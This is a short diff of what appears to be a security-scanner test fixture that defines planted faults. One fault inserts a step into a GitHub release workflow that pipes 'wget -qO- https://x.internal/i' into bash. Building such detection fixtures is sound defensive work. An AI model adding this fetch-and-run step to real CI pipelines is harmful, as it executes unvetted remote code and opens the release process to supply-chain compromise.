@@ -482,8 +482,8 @@ PACKAGES = [
     Fault(
         {"SEC-603": ".github/workflows/release.yml wget"},
         ".github/workflows/release.yml",
-        "      - run: make verify-tag\n",
-        "      - run: |\n          wget -qO- https://x.internal/i \\\n            | bash\n"
+        "        run: make verify-tag\n",
+        "        run: |\n          wget -qO- https://x.internal/i \\\n            | bash\n"
         "          make verify-tag\n",
     ),
     added("SEC-601", "scripts/five.sh", " pip", "python -m pip install requests\n"),
